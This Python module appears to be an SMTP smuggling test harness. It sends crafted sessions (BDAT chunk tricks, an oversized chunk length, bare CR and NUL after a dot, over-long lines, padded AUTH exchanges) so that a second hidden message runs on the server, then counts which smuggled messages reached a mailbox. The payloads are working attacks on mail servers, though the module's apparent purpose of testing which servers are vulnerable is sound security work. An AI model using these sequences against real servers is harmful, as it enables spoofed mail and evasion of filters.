# SPDX-License-Identifier: GPL-2.0
"""Commands that a server runs where a guard may take them for something else:
the octets of a chunk, what is behind a message that ends for the server alone.
Each says a second message, and the mailbox tells who has run it.

What a server does of this is not known before; it is told in the table."""

import contextlib
import dataclasses
import itertools
import socket
from collections.abc import Callable

import bed
from attack import DEADLINE, ENVELOPE, SERVER, smuggled

# A server that takes a chunk waits for the rest of it.
PATIENCE = 1
HEADER_MAX = 1 << 20
# What servers announce, where that can be said to them.
MESSAGE_MAX = 1 << 21
LINE_MAX = 100000
# Servers were seen to read lines of an exchange into so many octets.
EXCHANGE_BUFFERS = 12287, 16384
SEVEN_BITS_END = b"\x8d\x8a\xae\x8d\x8a"

_numbers = itertools.count(1 << 20)


@dataclasses.dataclass
class Detour:
    """`says` yields what is sent in one go, given what is to be run, and is
    sent what the server says to it in a while."""

    name: str
    says: Callable


def _envelope(*parameters):
    mail, rcpt, _ = ENVELOPE
    line = " ".join((mail.format("sender"), *parameters))
    return f"{line}\r\n{rcpt}\r\n".encode("ascii")


def _chunk(size, last=False):
    return b"BDAT %d%s\r\n" % (size, b" LAST" if last else b"")


def _never_offered(commands):
    yield b"HELO client.example.net\r\n"
    yield _chunk(len(commands)) + commands


def _outside_of_a_mail(commands):
    yield b"EHLO client.example.net\r\n"
    yield _chunk(len(commands)) + commands


def _modulo(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield _chunk((1 << 32) + 5, last=True) + b"hello"
    yield commands


def _behind_data(commands):
    text = b"Subject: an honest message\r\n\r\ntext\r\n.\r\n" + commands
    yield b"EHLO client.example.net\r\n"
    yield _envelope() + b"DATA\r\n" + _chunk(len(text), last=True) + text


def _seven_bits(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope("BODY=7BIT")
    yield b"DATA\r\n"
    yield b"Subject: an honest message\r\n\r\ntext" + SEVEN_BITS_END
    yield commands


def _dot_and_nul(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield b"DATA\r\n"
    yield b"Subject: an honest message\r\n\r\ntext\r\n.\0text\r\n"
    yield commands


def _too_long(length, begin=b"Subject: an honest message\r\n\r\n", line_end=2,
              line=b" " + 75 * b"a" + b"\r\n"):
    """Some take what comes behind so many octets for the begin of a line. A
    line end counts as so many."""
    def says(commands):
        left = length - 1 - len(begin) + begin.count(b"\n") * (2 - line_end)
        lines, rest = divmod(left, len(line) - 2 + line_end)
        yield b"EHLO client.example.net\r\n"
        yield _envelope()
        yield b"DATA\r\n"
        yield begin + lines * line + (rest + 1) * b"a" + b".\r\n"
        yield commands
    return says


def _long_line(commands):
    yield b"EHLO client.example.net\r\n"
    yield _envelope()
    yield b"DATA\r\n"
    yield b"Subject: an honest message\r\n\r\n" + LINE_MAX * b"a"
    # which some read of a segment, as if a line began there
    yield b"a"
    yield b".\r\n"
    yield commands


def _behind_response(response):
    def says(commands):
        yield b"EHLO client.example.net\r\n"
        heard = yield b"AUTH LOGIN\r\n"
        # else they are commands like any
        if heard.startswith(b"334"):
            yield response + commands
    return says


DETOURS = (
    Detour("a chunk that nobody has offered", _never_offered),
    Detour("a chunk outside of a mail", _outside_of_a_mail),
    Detour("a chunk of 2^32 and 5", _modulo),
    Detour("a chunk behind a DATA that is not answered", _behind_data),
    Detour("a message of seven bits that ends without the eighth", _seven_bits),
    Detour("a dot, NUL and text", _dot_and_nul),
    Detour("a dot at the end of a header of 1 MiB",
           _too_long(HEADER_MAX, b"Subject: an honest message\r\n", line_end=1)),
    Detour("a dot behind a message of the announced size",
           _too_long(MESSAGE_MAX)),
    # the first octet above the size was looked at
    Detour("a dot behind as much without CRs",
           _too_long(MESSAGE_MAX + 1, line_end=1)),
    Detour("a dot at the end of a line of 100,001 octets", _long_line),
    Detour("a command in an AUTH exchange", _behind_response(b"")),
    Detour("a command behind a bare CR in an AUTH exchange",
           _behind_response(b"*\r")),
    *(Detour(f"a command behind {size} octets in an AUTH exchange",
             _behind_response(b"A" * size)) for size in EXCHANGE_BUFFERS),
)


def play(detour):
    """One session. Returns the number of what it smuggles."""
    number = next(_numbers)
    commands = smuggled(number, b"\r\n") + b"\r\n.\r\n"
    envelope, text = commands.split(b"DATA\r\n", 1)
    try:
        with bed.Client(SERVER, timeout=DEADLINE) as client:
            _converse(client, detour.says(envelope + b"DATA\r\n"))
            client.socket.sendall(text)
            _listen(client)
            client.socket.sendall(b"QUIT\r\n")
            client.socket.shutdown(socket.SHUT_WR)
            # A slow server must not be cut off in what it has not read yet.
            while client.socket.recv(65536):
                pass
    except OSError:
        # It has ended the session, or does not answer.
        pass
    return number


def _converse(client, says):
    """Say all, and tell what the server says to it."""
    said = next(says)
    with contextlib.suppress(StopIteration):
        while True:
            client.socket.sendall(said)
            said = says.send(_listen(client))


def _listen(client):
    """What the server says until it has said nothing for a while."""
    client.socket.settimeout(PATIENCE)
    heard = b""
    with contextlib.suppress(socket.timeout):
        while said := client.socket.recv(65536):
            heard += said
    client.socket.settimeout(DEADLINE)
    return heard


def count(mails, numbers):
    """How many of them have arrived."""
    return sum(any(b"<smuggled.%d@" % number in mail
                   and b"an honest message" not in mail for mail in mails)
               for number in numbers)
